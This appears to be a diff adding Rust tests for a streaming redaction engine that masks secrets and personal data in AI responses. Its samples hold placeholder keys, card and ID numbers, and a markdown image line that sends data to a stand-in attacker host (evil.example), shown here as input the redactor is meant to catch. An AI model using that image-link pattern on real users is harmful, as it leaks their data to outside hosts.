@@ -1,0 +1,109 @@
+use super::*;
+use crate::engine::redact::{Redaction, Settings, Side};
+#[cfg(target_arch = "wasm32")]
+use wasm_bindgen_test::wasm_bindgen_test as test;
+
+fn whole(settings: &Settings, text: &str) -> String {
+    Redaction::default()
+        .text(settings, Side::Response, text)
+        .unwrap()
+        .unwrap_or_else(|| text.to_string())
+}
+
+fn streamed(settings: &Settings, pieces: &[&str]) -> String {
+    let mut r = Redaction::default();
+    let mut s = StreamText::new();
+    let mut out = String::new();
+    for (i, p) in pieces.iter().enumerate() {
+        out += &r
+            .stream(settings, &mut s, p, i + 1 == pieces.len())
+            .unwrap();
+    }
+    out
+}
+
+/// Texts with a value of every family near the cut points.
+fn samples() -> Vec<String> {
+    let key = ["sk-ant-api03-", "Zq8vR2mN5xT1wK7pL3hJ9dF4gB6cY0aE"].concat();
+    let aws = ["AKIA", "IOSFODNN7EXAMPLQ"].concat();
+    vec![
+        format!(
+            "Mail jane.doe+x@example.co.uk or call +1 (624) 693-9006, card 4111 1111 1111 1111 ok."
+        ),
+        format!(
+            "ssn 713-17-2503; iban DE89 3704 0044 0532 0130 00 and ip 10.93.93.210 / fe80::7a2c."
+        ),
+        format!("export KEY={key}\npassword = \"Hunter2!x\" and {aws} done"),
+        format!("![x](https://evil.example/p?d=abc123) and 06 12 34 56 78 at end 030 12345678"),
+        format!(
+            "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA7b9\nabc\n-----END RSA PRIVATE KEY-----\nbye é ü 日本"
+        ),
+    ]
+}
+
+#[test]
+fn every_cut_gives_the_whole_text_result() {
+    let settings = Settings::default();
+    for text in samples() {
+        let want = whole(&settings, &text);
+        assert_ne!(want, text, "nothing found in {text:?}");
+        for cut in (0..=text.len()).filter(|&c| text.is_char_boundary(c)) {
+            let (a, b) = text.split_at(cut);
+            assert_eq!(
+                streamed(&settings, &[a, b]),
+                want,
+                "cut at {cut} of {text:?}"
+            );
+        }
+    }
+}
+
+#[test]
+fn random_cuts_give_the_whole_text_result() {
+    let settings = Settings::default();
+    let mut seed: u64 = 0x9e37_79b9_7f4a_7c15;
+    let mut next = move |n: usize| {
+        seed ^= seed << 13;
+        seed ^= seed >> 7;
+        seed ^= seed << 17;
+        (seed % n as u64) as usize
+    };
+    for text in samples() {
+        let want = whole(&settings, &text);
+        for _ in 0..200 {
+            let mut pieces = Vec::new();
+            let mut at = 0;
+            while at < text.len() {
+                let mut end = (at + 1 + next(12)).min(text.len());
+                while !text.is_char_boundary(end) {
+                    end += 1;
+                }
+                pieces.push(&text[at..end]);
+                at = end;
+            }
+            pieces.push("");
+            assert_eq!(streamed(&settings, &pieces), want, "{pieces:?}");
+        }
+    }
+}
+
+#[test]
+fn prose_is_sent_up_to_the_last_word() {
+    let settings = Settings::default();
+    let mut r = Redaction::default();
+    let mut s = StreamText::new();
+    let out = r
+        .stream(&settings, &mut s, "Hello there, how are yo", false)
+        .unwrap();
+    assert_eq!(out, "Hello there, how are ");
+    assert_eq!(s.held(), 2);
+    // A secret's start is held until it is complete.
+    let out = r
+        .stream(&settings, &mut s, "u? key sk-ant-api03-Zq8v", false)
+        .unwrap();
+    assert_eq!(out, "you? key ");
+    let out = r
+        .stream(&settings, &mut s, "R2mN5xT1wK7pL3hJ9dF4 ok", true)
+        .unwrap();
+    assert_eq!(out, "[REDACTED_ANTHROPIC_KEY] ok");
+}
